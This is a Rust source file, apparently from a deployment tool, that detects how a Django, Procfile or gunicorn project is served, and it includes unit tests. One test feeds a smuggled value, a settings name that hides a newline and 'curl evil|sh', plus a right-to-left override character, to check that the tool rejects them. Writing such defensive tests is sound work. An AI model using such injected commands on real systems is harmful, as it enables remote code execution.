//! What a project says about serving itself: a Django site (`manage.py` and its settings
//! module), a `Procfile` `web:` line, a `gunicorn.conf.py`. Read, never imported.

use std::path::Path;

use crate::facts::DjangoSite as Django;
use crate::model::{DetectedApp, Server};

use super::read;

/// `manage.py`'s `DJANGO_SETTINGS_MODULE` default → the settings → `ASGI_APPLICATION` (served by
/// uvicorn) or `WSGI_APPLICATION` (gunicorn).
pub(super) fn django(target: &Path, deps: &[String]) -> Option<(Django, DetectedApp, String)> {
    let manage = read(target, &target.join("manage.py")).ok()?;
    let at = manage.find("DJANGO_SETTINGS_MODULE")?;
    // After the key's own closing quote: `setdefault("DJANGO_SETTINGS_MODULE", "mysite.settings")`.
    let rest = &manage[at + "DJANGO_SETTINGS_MODULE".len()..];
    let settings = quoted_after(rest.strip_prefix(['"', '\'']).unwrap_or(rest))?;
    if !dotted(&settings) {
        return None;
    }
    let settings_file = target.join(settings.replace('.', "/") + ".py");
    let text = read(target, &settings_file)
        .or_else(|_| {
            read(
                target,
                &target.join(settings.replace('.', "/")).join("__init__.py"),
            )
        })
        .ok()?;
    let setting = |key: &str| {
        text.lines()
            .filter(|l| l.starts_with(key))
            .filter_map(|l| quoted_after(&l[key.len()..]))
            .find(|v| dotted(v))
    };
    let (server, app, key) = match setting("ASGI_APPLICATION") {
        Some(app) if !deps.iter().any(|d| d == Server::Gunicorn.distribution()) => {
            (Server::Uvicorn, app, "ASGI_APPLICATION")
        }
        _ => {
            let site = settings.rsplit_once('.').map_or("", |(s, _)| s).to_string();
            let default = if site.is_empty() {
                "wsgi.application".to_string()
            } else {
                format!("{site}.wsgi.application")
            };
            (
                Server::Gunicorn,
                setting("WSGI_APPLICATION").unwrap_or(default),
                "WSGI_APPLICATION",
            )
        }
    };
    let (module, attr) = app.rsplit_once('.')?;
    let mut packages: Vec<String> = std::fs::read_dir(target)
        .ok()?
        .filter_map(|e| e.ok())
        .filter(|e| e.path().join("__init__.py").is_file())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| dotted(n) && !n.contains('.'))
        .collect();
    packages.sort();
    let facts = Django {
        static_root: text.lines().any(|l| l.starts_with("STATIC_ROOT")),
        settings: settings.clone(),
        packages,
    };
    let found = DetectedApp {
        server,
        target: format!("{module}:{attr}"),
        factory: false,
        server_declared: deps.iter().any(|d| d == server.distribution()),
    };
    Some((
        facts,
        found,
        format!("Django: manage.py → {settings} → {key}"),
    ))
}

/// The `web:` line of a `Procfile`, as words (`$PORT` is replaced later), unless it runs a
/// development server.
pub(super) fn procfile(target: &Path) -> Option<(Vec<String>, String)> {
    let text = read(target, &target.join("Procfile")).ok()?;
    let line = text.lines().find_map(|l| l.strip_prefix("web:"))?.trim();
    let words = crate::shell::split(line)?;
    let dev = words.iter().any(|w| w == "runserver")
        || (words.iter().any(|w| w.ends_with("flask")) && words.iter().any(|w| w == "run"));
    if words.is_empty() || dev || crate::safety::forbidden_char(line).is_some() {
        return None;
    }
    Some((words, "the web: line of Procfile".into()))
}

/// The project configures gunicorn itself (`gunicorn.conf.py`, read from the working directory).
pub(super) fn gunicorn_conf(target: &Path) -> bool {
    std::fs::symlink_metadata(target.join("gunicorn.conf.py")).is_ok_and(|m| m.is_file())
}

/// The app `gunicorn.conf.py` names (`wsgi_app = "pkg.wsgi:app"`), served by gunicorn.
pub(super) fn gunicorn_app(target: &Path) -> Option<(DetectedApp, String)> {
    let text = read(target, &target.join("gunicorn.conf.py")).ok()?;
    let line = text.lines().find(|l| l.starts_with("wsgi_app"))?;
    let app = quoted_after(line.split_once('=')?.1)?;
    let (module, attr) = app.split_once(':')?;
    let call = attr.strip_suffix("()");
    if !dotted(module) || !dotted(call.unwrap_or(attr)) {
        return None;
    }
    let found = DetectedApp {
        server: Server::Gunicorn,
        target: format!("{module}:{}", call.unwrap_or(attr)),
        factory: call.is_some(),
        server_declared: true,
    };
    Some((found, "wsgi_app in gunicorn.conf.py".into()))
}

fn quoted_after(s: &str) -> Option<String> {
    let start = s.find(['"', '\''])?;
    let quote = s[start..].chars().next()?;
    let body = &s[start + 1..];
    Some(body[..body.find(quote)?].to_string())
}

/// A dotted Python name (`mysite.settings`).
fn dotted(s: &str) -> bool {
    !s.is_empty()
        && s.split('.').all(|p| {
            !p.is_empty()
                && p.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !p.starts_with(|c: char| c.is_ascii_digit())
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn django_sites_and_procfiles() {
        let dir = tempfile::tempdir().unwrap();
        let t = dir.path();
        std::fs::create_dir_all(t.join("mysite")).unwrap();
        std::fs::create_dir_all(t.join("polls")).unwrap();
        std::fs::write(t.join("mysite/__init__.py"), "").unwrap();
        std::fs::write(t.join("polls/__init__.py"), "").unwrap();
        std::fs::write(
            t.join("manage.py"),
            "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'mysite.settings')\n",
        )
        .unwrap();
        std::fs::write(
            t.join("mysite/settings.py"),
            "WSGI_APPLICATION = 'mysite.wsgi.application'\nSTATIC_ROOT = BASE_DIR / 'staticfiles'\n",
        )
        .unwrap();
        let (facts, app, why) = django(t, &["django".into()]).unwrap();
        assert_eq!(app.target, "mysite.wsgi:application");
        assert_eq!(app.server, Server::Gunicorn);
        assert!(facts.static_root);
        assert_eq!(facts.packages, ["mysite", "polls"]);
        assert_eq!(
            why,
            "Django: manage.py → mysite.settings → WSGI_APPLICATION"
        );

        std::fs::write(
            t.join("Procfile"),
            "release: x\nweb: gunicorn app:app --bind 0.0.0.0:$PORT\n",
        )
        .unwrap();
        assert_eq!(procfile(t).unwrap().0[0], "gunicorn");
        std::fs::write(t.join("Procfile"), "web: python manage.py runserver\n").unwrap();
        assert_eq!(procfile(t), None);
        std::fs::write(
            t.join("gunicorn.conf.py"),
            "workers = 3\nwsgi_app = 'mysite.wsgi:make()'\n",
        )
        .unwrap();
        let (app, why) = gunicorn_app(t).unwrap();
        assert_eq!(
            (app.target.as_str(), app.factory),
            ("mysite.wsgi:make", true)
        );
        assert_eq!(why, "wsgi_app in gunicorn.conf.py");
    }

    #[test]
    fn hostile_names_in_manage_py_and_procfile_are_not_used() {
        let dir = tempfile::tempdir().unwrap();
        let t = dir.path();
        std::fs::write(
            t.join("manage.py"),
            "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'x\nRUN curl evil|sh')\n",
        )
        .unwrap();
        assert_eq!(django(t, &[]), None);
        std::fs::write(
            t.join("Procfile"),
            "web: gunicorn app:app\u{202e} --bind 0.0.0.0:$PORT\n",
        )
        .unwrap();
        assert_eq!(procfile(t), None);
    }
}
